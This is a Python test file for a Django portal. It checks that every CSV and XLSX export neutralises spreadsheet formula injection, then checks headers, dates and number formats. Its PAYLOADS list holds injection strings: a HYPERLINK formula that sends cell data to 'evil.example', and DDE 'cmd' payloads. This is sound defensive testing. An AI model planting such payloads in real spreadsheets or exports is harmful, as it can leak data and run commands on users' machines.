"""Every CSV and XLSX download, fed text that a spreadsheet would run as a formula.

A network whose names all start with = + - @, a tab or a carriage return (the college names
set by a college coordinator through the API, mentor names, VTE groups, fields, contact
summaries, event and survey titles, survey questions, choices and answers) is downloaded
through every CSV and XLSX URL of the portal by a role allowed to, in English and in Finnish.
Each download is read back as a spreadsheet program reads it: a CSV with the encoding and
delimiter its response declares, a workbook with openpyxl.
"""

import datetime
import re
from urllib.parse import urlsplit

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from rest_framework.test import APIClient

from leadvet import roles
from surveys.models import Answer, Question, Response
from tests.downloads import csv_rows, fetch, workbook, zip_csvs
from tests.factories import (
    ContactFactory,
    EventFactory,
    MentorFactory,
    MentorTaskFactory,
    PartnerCollegeFactory,
    QuestionFactory,
    RegistrationFactory,
    SurveyFactory,
    SurveyInvitationFactory,
    UserFactory,
    VocationalFieldFactory,
    VTEGroupFactory,
    college_coordinator_for,
    user_with_role,
)
from tests.security.urls_walk import portal_urls

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=2+2",
    "\r=3+3",
)
# A number may start with a minus sign: it is a number to a spreadsheet, not a formula.
NUMBER = re.compile(r"-?\d+([.,]\d+)?")

MENTOR_COLUMNS = [
    "Last name",
    "First name",
    "Email",
    "Phone",
    "Country",
    "College",
    "Unit",
    "Status",
    "Date of official status",
    "Vocational fields",
    "Mentor tasks",
    "Languages",
    "Available now",
    "Invitation",
]
CONTACT_COLUMNS = [
    "Date",
    "College",
    "Contacted",
    "VTE group",
    "Mentor task",
    "Channel",
    "Duration (minutes)",
    "Outcomes",
    "Formal",
    "Summary",
]
ATTENDEE_COLUMNS = [
    "Name",
    "Email",
    "Status",
    "Registered at",
    "Attended",
    "Registered by",
    "Organisation",
    "Organisation type",
    "Country",
    "From a partner organisation",
    "Dietary needs",
    "Accessibility needs",
]
RAW_COLUMNS = [
    "Respondent",
    "Role",
    "Country",
    "College",
    "Question key",
    "Question",
    "Row",
    "Value",
    "Answer",
    "Text",
]
SUMMARY_COLUMNS = [
    "Question key",
    "Question",
    "Row",
    "Option",
    "Count",
    "Percent (%)",
    "Mean",
    "Median",
    "Respondents",
]


@pytest.fixture(autouse=True)
def keep_the_language():
    """A Finnish user's request leaves Finnish active in the thread: put it back."""
    language = translation.get_language()
    yield
    translation.activate(language)


@pytest.fixture
def hostile():
    """Six colleges, their mentors, contacts, an event and a survey, every name a formula."""
    colleges = [PartnerCollegeFactory() for _payload in PAYLOADS]
    college_coordinator = college_coordinator_for(*colleges)
    api = APIClient()
    api.force_login(college_coordinator)
    for college, payload in zip(colleges, PAYLOADS, strict=True):
        response = api.patch(
            f"/api/v1/colleges/{college.pk}/", {"name": f"{payload} College"}, format="json"
        )
        if payload.startswith(("\t", "\r")):
            # The API refuses control characters in a one-line name; such a name can still be
            # in the database (typed before that rule, or through the admin), so put it there.
            assert response.status_code == 400, response.content
            type(college).objects.filter(pk=college.pk).update(name=f"{payload} College")
        else:
            assert response.status_code == 200, response.content
        college.refresh_from_db()
        assert college.name.startswith(FORMULA_STARTS)

    task = MentorTaskFactory(number=2)
    groups = [VTEGroupFactory(name=payload) for payload in PAYLOADS]
    mentors = []
    for college, payload in zip(colleges, PAYLOADS, strict=True):
        mentor = MentorFactory(
            user=UserFactory(roles=[roles.MENTOR], first_name=payload, last_name=payload),
            college=college,
            phone="+358 40 123 4567",
        )
        mentor.fields.add(VocationalFieldFactory(name=f"{payload} field", is_shortage=True))
        for group, summary in zip(groups, PAYLOADS, strict=True):
            ContactFactory(mentor=mentor, task=task, vte_group=group, summary=summary)
        mentors.append(mentor)

    event = EventFactory(title=PAYLOADS[0])
    for mentor in mentors:
        RegistrationFactory(event=event, user=mentor.user, registered_by=mentor.user)

    survey = SurveyFactory(title=PAYLOADS[3])
    texts = [
        QuestionFactory(survey=survey, kind=Question.Kind.TEXT, text=payload, position=index)
        for index, payload in enumerate(PAYLOADS)
    ]
    choice = QuestionFactory(
        survey=survey, kind=Question.Kind.SINGLE, text=PAYLOADS[1], choices=list(PAYLOADS)
    )
    statement = QuestionFactory(survey=survey, kind=Question.Kind.LIKERT, text=PAYLOADS[2])
    responses = Response.objects.bulk_create(
        Response(
            survey=survey,
            invitation=SurveyInvitationFactory(survey=survey),
            role="mentor",
            college=colleges[0],
            country=colleges[0].country,
            submitted_at=timezone.now(),
        )
        for _index in range(5)
    )
    Answer.objects.bulk_create(
        [
            answer
            for index, response in enumerate(responses)
            for answer in (
                *(Answer(response=response, question=q, text=q.text) for q in texts),
                Answer(response=response, question=choice, value=index),
                Answer(response=response, question=statement, value=4),
            )
        ]
    )
    return {
        "coordinator": user_with_role(roles.COORDINATOR),
        "steering": user_with_role(roles.STEERING),
        "college_coordinator": college_coordinator,
        "mentor": mentors[0].user,
        "event": event,
        "survey": survey,
    }


def downloads(network) -> list[tuple[str, str, str]]:
    """(url name, who downloads, url) for every download."""
    event, survey = network["event"].pk, network["survey"].pk
    return [
        ("mentors:export_csv", "coordinator", reverse("mentors:export_csv") + "?status=active"),
        ("mentors:export_xlsx", "coordinator", reverse("mentors:export_xlsx") + "?status=active"),
        ("mentors:contact_export", "mentor", reverse("mentors:contact_export")),
        (
            "mentors:college_contact_export",
            "college_coordinator",
            reverse("mentors:college_contact_export"),
        ),
        ("events:attendees_csv", "coordinator", reverse("events:attendees_csv", args=[event])),
        ("events:attendees_xlsx", "coordinator", reverse("events:attendees_xlsx", args=[event])),
        *(
            ("surveys:export", "coordinator", reverse("surveys:export", args=[survey, kind, fmt]))
            for kind in ("raw", "summary")
            for fmt in ("csv", "xlsx")
        ),
        ("report_export", "steering", reverse("report_export", args=["csv"])),
        ("report_export", "steering", reverse("report_export", args=["xlsx"])),
    ]


def test_every_csv_and_xlsx_url_is_downloaded_here():
    """A new download URL fails this until it is added to `downloads` above."""
    found = {
        name
        for name, (route, _pattern) in portal_urls().items()
        if route.endswith((".csv", ".xlsx", ".<str:fmt>"))
    }
    listed = {name for name, _who, _url in downloads({"event": _Pk(), "survey": _Pk()})}
    assert found == listed


class _Pk:
    pk = 1


def _safe(text: str) -> bool:
    return not text.startswith(FORMULA_STARTS) or bool(NUMBER.fullmatch(text))


def _assert_neutralised(texts: list[str], what: str) -> None:
    """No text starts like a formula, and each payload is there, behind its apostrophe."""
    unsafe = [text for text in texts if not _safe(text)]
    assert not unsafe, f"{what}: formulas left live: {unsafe[:5]}"
    for payload in PAYLOADS:
        # XML reads a carriage return back as a line feed; a full name is stripped.
        variants = {"'" + payload, "'" + payload.replace("\r", "\n"), "'" + payload.lstrip()}
        assert any(text.startswith(tuple(variants)) for text in texts), (
            f"{what}: {payload!r} did not come through"
        )


def _translated(columns: list[str]) -> list[str]:
    return [gettext(column) for column in columns]


def _check_csv(rows: list[list[str]], columns: list[str], what: str) -> None:
    assert rows[0] == columns, what
    assert all(len(row) == len(columns) for row in rows), f"{what}: rows of different widths"
    assert len(rows) > 1, f"{what}: no rows"


def _check_workbook(book, what: str) -> list[str]:
    """Every sheet: no formula, a bold frozen header with a filter on the tables, fitted widths;
    the texts of every cell."""
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{what}: formula in {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for sheet in book.worksheets[1:]:
        assert sheet.freeze_panes == "A2", f"{what}: {sheet.title}"
        assert sheet.auto_filter.ref.startswith("A1:"), f"{what}: {sheet.title}"
        assert all(cell.font.b for cell in sheet[1]), f"{what}: {sheet.title} header not bold"
        widths = [dimension.width for dimension in sheet.column_dimensions.values()]
        assert widths and all(8 <= width <= 60 for width in widths), f"{what}: {sheet.title}"
    return texts


def _about(book) -> dict[str, object]:
    """The first sheet's (label, value) rows."""
    first = book.worksheets[0]
    return {
        row[0].value: row[1].value if len(row) > 1 else None
        for row in first.iter_rows()
        if row and row[0].value
    }


@pytest.mark.parametrize("language", ["en", "fi"])
def test_every_download_neutralises_formulas_and_reads_back_typed(hostile, language):
    clients = {}
    for who in ("coordinator", "steering", "college_coordinator", "mentor"):
        hostile[who].language = language
        hostile[who].save(update_fields=["language"])
        clients[who] = Client()
        clients[who].force_login(hostile[who])
    with translation.override(language):
        columns = {
            "mentors:export_csv": _translated(MENTOR_COLUMNS),
            "mentors:contact_export": _translated(CONTACT_COLUMNS),
            "mentors:college_contact_export": _translated(["Mentor", *CONTACT_COLUMNS]),
            "events:attendees_csv": _translated(ATTENDEE_COLUMNS),
            "raw.csv": _translated(RAW_COLUMNS),
            "summary.csv": [*_translated(SUMMARY_COLUMNS[:5]), gettext("Percent") + " (%)"]
            + _translated(SUMMARY_COLUMNS[6:]),
        }
    typed = {}
    for name, who, url in downloads(hostile):
        what = f"{url} ({language})"
        response = fetch(clients[who], url)
        if urlsplit(url).path.endswith(".xlsx"):
            book = workbook(response)
            _assert_neutralised(_check_workbook(book, what), what)
            typed[url.rsplit("/", 1)[-1] if name == "surveys:export" else name] = book
            continue
        assert response["Content-Language"] == language, what
        if name == "report_export":
            files = zip_csvs(response)
            # What the download is, the 15 tables, the 15 of outcomes; the steering group's
            # follow-up and training lists are counts per college and per field (two more).
            assert len(files) == 33, what
            for file_name, rows in files.items():
                assert all(len(row) == len(rows[0]) for row in rows), f"{what}: {file_name}"
            texts = [cell for rows in files.values() for row in rows for cell in row]
        else:
            rows = csv_rows(response)
            _check_csv(
                rows, columns[url.rsplit("/", 1)[-1] if name == "surveys:export" else name], what
            )
            texts = [cell for row in rows for cell in row]
        _assert_neutralised(texts, what)

    date_format = {"en": "d.m.yyyy", "fi": "d.m.yyyy"}[language]
    with translation.override(language):
        # The first sheet names the export, its period (dates as dates) and the filters.
        mentors = typed["mentors:export_xlsx"]
        about = _about(mentors)
        assert gettext("Mentor list") in about
        assert about[gettext("Filter: %(name)s") % {"name": gettext("Status")}] == str(
            gettext("Active")
        )
        for key in ("events:attendees_xlsx", "raw.xlsx", "summary.xlsx", "report_export"):
            about = _about(typed[key])
            for label in (gettext("From"), gettext("To"), gettext("Created")):
                assert isinstance(about[label], datetime.datetime), (key, label)
        assert _about(typed["events:attendees_xlsx"])[gettext("Event")] == "'" + PAYLOADS[0]
        assert _about(typed["report_export"])[gettext("Period")]
        report = typed["report_export"]
        contents = [
            row for row in report.worksheets[0].values if row and row[0] in report.sheetnames
        ]
        assert len(contents) == 32  # every table by its full name (15 of outcomes, 2 counts)
    # Dates are dates with a day-month-year format, percentages numbers with a percent format.
    official = _column(typed["mentors:export_xlsx"].worksheets[1], 9)
    assert official and all(cell.is_date and cell.number_format == date_format for cell in official)
    registered = _column(typed["events:attendees_xlsx"].worksheets[1], 4)
    assert registered and all(cell.is_date for cell in registered)
    assert all(cell.number_format == f"{date_format} hh:mm" for cell in registered)
    months = _column(report.worksheets[6], 1)
    assert months and all(cell.is_date and cell.number_format == "mmm yyyy" for cell in months)
    rates = _column(report.worksheets[10], 5)
    assert rates and all(cell.value == 1 and cell.number_format == "0%" for cell in rates)
    percents = _column(typed["summary.xlsx"].worksheets[1], 6)
    assert any(cell.data_type == "n" and "%" in cell.number_format for cell in percents)


def _column(sheet, number: int) -> list:
    """The data cells of a column that hold a value (the header left out)."""
    return [
        row[number - 1] for row in sheet.iter_rows(min_row=2) if row[number - 1].value is not None
    ]
